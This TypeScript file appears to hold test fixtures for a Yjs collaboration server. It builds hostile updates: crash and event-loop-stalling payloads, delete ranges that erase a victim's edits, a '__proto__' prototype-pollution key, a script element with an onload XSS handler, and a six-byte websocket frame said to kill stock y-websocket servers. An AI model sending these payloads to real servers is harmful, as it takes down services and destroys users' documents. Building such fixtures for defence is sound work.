// Byte recipes of what no honest client sends: V1 updates are [clients, per client [structs, client, clock, structs…],
// delete set]. Sources: the attacks that end or corrupt stock Yjs servers.
import * as encoding from 'lib0/encoding'
import * as Y from 'yjs'

const GC = 0

/** A garbage struct under the victim's client id: whatever the victim wrote offline from there on would vanish. */
export function poisonedClock(victim: number, clock: number): Uint8Array {
  return encoding.encode((encoder) => {
    for (const number of [1, 1, victim, clock]) encoding.writeVarUint(encoder, number)
    encoding.writeUint8(encoder, GC)
    encoding.writeVarUint(encoder, 2 ** 31)
    encoding.writeVarUint(encoder, 0)
  })
}

/** A delete range far beyond what the victim has written: every future keystroke would vanish. */
export function pendingDelete(victim: number, clock: number): Uint8Array {
  return encoding.encode((encoder) => {
    for (const number of [0, 1, victim, 1, clock, 2 ** 40]) encoding.writeVarUint(encoder, number)
  })
}

/** An honest update with its last byte missing: Yjs throws, and has applied it all the same. */
export function truncated(update: Uint8Array): Uint8Array {
  return update.slice(0, -1)
}

/** Structs that depend on something that never comes; thousands of them stop the event loop of a stock server. */
export function pendingStruct(client: number): Uint8Array {
  return encoding.encode((encoder) => {
    for (const number of [1, 1, client, 5]) encoding.writeVarUint(encoder, number)
    encoding.writeUint8(encoder, GC)
    encoding.writeVarUint(encoder, 1)
    encoding.writeVarUint(encoder, 0)
  })
}

/** A V2 update that claims millions of structs in some twenty bytes. */
export function claimOfMillions(client: number): Uint8Array {
  const encoder = new Y.UpdateEncoderV2()
  encoding.writeVarUint(encoder.restEncoder, 1)
  encoding.writeVarUint(encoder.restEncoder, 20_000_000)
  encoder.writeClient(client)
  encoding.writeVarUint(encoder.restEncoder, 0)
  encoder.writeInfo(GC)
  encoder.writeLen(1)
  return encoder.toUint8Array()
}

/** Elements nested so deeply that reading the tree would overflow the stack. */
export function nested(doc: Y.Doc, depth: number): Uint8Array {
  const writer = copyOf(doc)
  const before = Y.encodeStateVector(writer)
  const clauses = writer.getXmlFragment('declaration').get(2) as Y.XmlElement
  writer.transact(() => {
    let parent: Y.XmlElement = clauses
    for (let level = 0; level < depth; level += 1) {
      const child = new Y.XmlElement(level % 2 === 0 ? 'clause' : 'subclauses')
      parent.insert(parent.length, [child])
      parent = child
    }
  })
  return Y.encodeStateAsUpdate(writer, before)
}

/** A value whose key would pollute prototypes in a careless reader. */
export function protoKeys(doc: Y.Doc): Uint8Array {
  const writer = copyOf(doc)
  const before = Y.encodeStateVector(writer)
  const clauses = writer.getXmlFragment('declaration').get(2) as Y.XmlElement
  const clause = clauses.get(0) as Y.XmlElement
  clause.setAttribute('__proto__', '{"isAdmin":true}')
  return Y.encodeStateAsUpdate(writer, before)
}

/** Elements and attributes that run scripts where a reader trusts them. */
export function script(doc: Y.Doc): Uint8Array {
  const writer = copyOf(doc)
  const before = Y.encodeStateVector(writer)
  const element = new Y.XmlElement('script')
  element.setAttribute('onload', 'alert(1)')
  writer.getXmlFragment('declaration').insert(0, [element])
  return Y.encodeStateAsUpdate(writer, before)
}

/** A root type of another name, to be stored and sent to everybody for ever. */
export function foreignRoot(): Uint8Array {
  const writer = new Y.Doc()
  writer.getMap('hidden').set('payload', 'x'.repeat(1_000))
  return Y.encodeStateAsUpdate(writer)
}

/** One update of so many bytes of text. */
export function largeText(doc: Y.Doc, bytes: number): Uint8Array {
  const writer = copyOf(doc)
  const before = Y.encodeStateVector(writer)
  const closing = writer.getXmlFragment('declaration').get(3) as Y.XmlElement
  const paragraph = new Y.XmlElement('paragraph')
  paragraph.insert(0, [new Y.XmlText('x'.repeat(bytes))])
  closing.insert(0, [paragraph])
  return Y.encodeStateAsUpdate(writer, before)
}

/** The six bytes (RSV1 set, masked, empty) that end the process of both stock y-websocket servers. */
export const FRAME_WITH_RESERVED_BIT = new Uint8Array([0xc2, 0x80, 1, 2, 3, 4])

function copyOf(doc: Y.Doc): Y.Doc {
  const copy = new Y.Doc()
  Y.applyUpdate(copy, Y.encodeStateAsUpdate(doc))
  return copy
}
